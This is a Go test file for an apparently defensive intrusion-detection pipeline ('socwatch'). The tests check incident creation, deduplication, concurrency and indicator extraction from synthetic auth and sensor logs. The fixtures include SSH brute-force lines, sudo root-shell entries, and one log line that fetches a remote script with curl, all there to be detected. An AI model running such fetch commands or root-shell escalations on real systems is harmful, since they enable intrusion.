package pipeline

import (
	"context"
	"errors"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"socwatch/internal/db"
	"socwatch/internal/detect"
	"socwatch/internal/events"
	"socwatch/internal/incidents"
)

var testNow = time.Date(2026, 3, 10, 9, 0, 0, 0, time.UTC)

func quietLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(io.Discard, nil))
}

func newTestPipeline(t *testing.T, dir string, store incidents.Store) *Pipeline {
	t.Helper()
	set, err := detect.NewSet(detect.DefaultRules())
	require.NoError(t, err)
	alloc := incidents.NewAllocator(&incidents.StoreCounter{Store: store, Name: "incident"}, "INC")
	alloc.Now = func() time.Time { return testNow }
	logger := quietLogger()
	reader := &events.Reader{
		Dir:        dir,
		SensorFile: "sensor_data.log",
		Normalizer: &events.Normalizer{Now: func() time.Time { return testNow }},
		Logger:     logger,
	}
	return New(reader, NewAdmitter(set, store, alloc, logger), logger)
}

func writeLog(t *testing.T, dir, name string, lines ...string) {
	t.Helper()
	require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(strings.Join(lines, "\n")+"\n"), 0o644))
}

const failLine = "sshd[31]: Failed password for root from 10.0.0.5 port 2222 ssh2"

func TestRunDirIsIdempotent(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	writeLog(t, dir, "auth.log",
		"2026-03-10T08:00:00Z "+failLine,
		"2026-03-10T08:00:05Z "+failLine,
		"2026-03-10T08:00:09Z "+failLine,
		"2026-03-10T08:01:00Z sudo: alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
	)
	writeLog(t, dir, "sensor_data.log", "2026-03-10T08:02:00Z,temperature,88")

	store := incidents.NewMemoryStore()
	p := newTestPipeline(t, dir, store)

	first, err := p.RunDir(ctx)
	require.NoError(t, err)
	assert.Equal(t, []string{"INC-2026-0001", "INC-2026-0002", "INC-2026-0003"}, first.Admitted)
	assert.Equal(t, 5, first.Events)
	assert.NotEmpty(t, first.PassID)

	second, err := p.RunDir(ctx)
	require.NoError(t, err)
	assert.Empty(t, second.Admitted)
	assert.Equal(t, 3, second.Candidates)
	assert.NotEqual(t, first.PassID, second.PassID)

	inc, err := store.Get(ctx, "INC-2026-0001")
	require.NoError(t, err)
	assert.Equal(t, incidents.StatusOpen, inc.Status)
	assert.Equal(t, incidents.SeverityMedium, inc.Severity)
	assert.Equal(t, events.SourceLog, inc.Source)
	assert.Equal(t, "brute_force|10.0.0.5|MEDIUM", inc.Fingerprint)
	assert.True(t, inc.CreatedAt.Equal(time.Date(2026, 3, 10, 8, 0, 0, 0, time.UTC)))

	sensor, err := store.Get(ctx, "INC-2026-0003")
	require.NoError(t, err)
	assert.Equal(t, events.SourceSensor, sensor.Source)
	assert.Equal(t, incidents.SeverityHigh, sensor.Severity)

	ledger, err := store.Ledger(ctx, incidents.LedgerFilter{})
	require.NoError(t, err)
	require.Len(t, ledger, 3)
	assert.Equal(t, "INC-2026-0001 created (MEDIUM): Brute-force detected from 10.0.0.5: 3 failed attempts", ledger[0].Text)
}

func TestRunDirIdempotentForUntimedLines(t *testing.T) {
	newSQLite := func(t *testing.T) incidents.Store {
		ctx := context.Background()
		conn, err := db.Open(ctx, db.SQLite, filepath.Join(t.TempDir(), "socwatch.db"))
		require.NoError(t, err)
		t.Cleanup(func() { _ = conn.Close() })
		require.NoError(t, db.RunMigrations(ctx, conn, db.SQLite))
		return incidents.NewSQLStore(conn, db.SQLite)
	}
	stores := map[string]func(*testing.T) incidents.Store{
		"memory": func(*testing.T) incidents.Store { return incidents.NewMemoryStore() },
		"sqlite": newSQLite,
	}
	for name, newStore := range stores {
		t.Run(name, func(t *testing.T) {
			ctx := context.Background()
			dir := t.TempDir()
			fail := "sshd[7]: Failed password for root from 10.0.0.9 port 2222 ssh2"
			writeLog(t, dir, "auth.log",
				"sudo: mallory : TTY=pts/2 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
				fail, fail, fail,
			)
			writeLog(t, dir, "sensor_data.log", "not-a-time,motion,1")

			now := testNow
			clock := func() time.Time { return now }
			p := newTestPipeline(t, dir, newStore(t))
			p.Reader.Normalizer.Now = clock

			first, err := p.RunDir(ctx)
			require.NoError(t, err)
			assert.Len(t, first.Admitted, 3)

			for _, later := range []time.Duration{30 * time.Second, 20*time.Minute + 30*time.Second, 26 * time.Hour} {
				now = testNow.Add(later)
				res, err := p.RunDir(ctx)
				require.NoError(t, err)
				assert.Empty(t, res.Admitted, "re-read at +%s", later)
				assert.Equal(t, 3, res.Candidates)
			}
		})
	}
}

func TestRunDirAdmitsNewTierOnly(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	lines := []string{
		"2026-03-10T08:00:00Z " + failLine,
		"2026-03-10T08:00:01Z " + failLine,
		"2026-03-10T08:00:02Z " + failLine,
	}
	writeLog(t, dir, "auth.log", lines...)
	store := incidents.NewMemoryStore()
	p := newTestPipeline(t, dir, store)

	res, err := p.RunDir(ctx)
	require.NoError(t, err)
	require.Len(t, res.Admitted, 1)

	lines = append(lines,
		"2026-03-10T08:00:03Z "+failLine,
		"2026-03-10T08:00:04Z "+failLine,
	)
	writeLog(t, dir, "auth.log", lines...)
	res, err = p.RunDir(ctx)
	require.NoError(t, err)
	require.Equal(t, []string{"INC-2026-0002"}, res.Admitted)

	inc, err := store.Get(ctx, "INC-2026-0002")
	require.NoError(t, err)
	assert.Equal(t, incidents.SeverityHigh, inc.Severity)
}

func TestRunLines(t *testing.T) {
	store := incidents.NewMemoryStore()
	p := newTestPipeline(t, t.TempDir(), store)
	res, err := p.RunLines(context.Background(), "web.log", []string{
		"2026-03-10T08:00:00Z bash[9]: curl -s https://198.51.100.3/p.sh",
		"",
		"not a timestamp at all",
	})
	require.NoError(t, err)
	assert.Equal(t, 2, res.Events)
	assert.Equal(t, []string{"INC-2026-0001"}, res.Admitted)
}

func TestConcurrentAdmissionAdmitsOnce(t *testing.T) {
	store := incidents.NewMemoryStore()
	p := newTestPipeline(t, t.TempDir(), store)
	evts := p.Reader.ReadLines("auth.log", []string{
		"2026-03-10T08:00:00Z sudo: bob : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
	})

	var wg sync.WaitGroup
	var mu sync.Mutex
	total := 0
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			ids, err := p.Admitter.DetectAndAdmit(context.Background(), evts)
			assert.NoError(t, err)
			mu.Lock()
			total += len(ids)
			mu.Unlock()
		}()
	}
	wg.Wait()
	assert.Equal(t, 1, total)
}

type failingStore struct {
	*incidents.MemoryStore
	err error
}

func (s *failingStore) Create(ctx context.Context, inc *incidents.Incident, text string) error {
	return s.err
}

func TestStoreFailureAbortsPass(t *testing.T) {
	boom := &incidents.PersistenceError{Op: "create incident", Err: errors.New("disk full")}
	store := &failingStore{MemoryStore: incidents.NewMemoryStore(), err: boom}
	p := newTestPipeline(t, t.TempDir(), store)

	res, err := p.RunLines(context.Background(), "auth.log", []string{
		"2026-03-10T08:00:00Z sudo: bob : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
		"2026-03-10T08:00:01Z sudo: bob : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/whoami",
	})
	var pe *incidents.PersistenceError
	require.ErrorAs(t, err, &pe)
	assert.Empty(t, res.Admitted)
}

func TestFingerprint(t *testing.T) {
	assert.Equal(t, "", Fingerprint(detect.Candidate{Detector: "privilege_escalation", Key: "/bin/sh"}))
	assert.Equal(t, "brute_force|10.0.0.1|HIGH", Fingerprint(detect.Candidate{
		Detector: "brute_force", Key: "10.0.0.1", Keyed: true, Severity: incidents.SeverityHigh,
	}))
}

func TestPassReportsIOCs(t *testing.T) {
	p := newTestPipeline(t, t.TempDir(), incidents.NewMemoryStore())
	res, err := p.RunLines(context.Background(), "auth.log", []string{
		"2026-03-10T08:00:00Z " + failLine,
		"2026-03-10T08:00:01Z " + failLine,
		"2026-03-10T08:00:02Z " + failLine,
		"2026-03-10T08:03:00Z sshd[40]: Accepted password for root from 10.0.0.5 port 2222 ssh2",
	})
	require.NoError(t, err)
	assert.Equal(t, []string{"10.0.0.5"}, res.IOCs.AttackerIPs)
	assert.Equal(t, []string{"root"}, res.IOCs.CompromisedUsers)
	assert.Equal(t, []string{"10.0.0.5"}, res.IOCs.Targets)

	iocs, err := p.IOCs(context.Background())
	require.NoError(t, err)
	assert.Empty(t, iocs.AttackerIPs, "the log directory is empty")
}
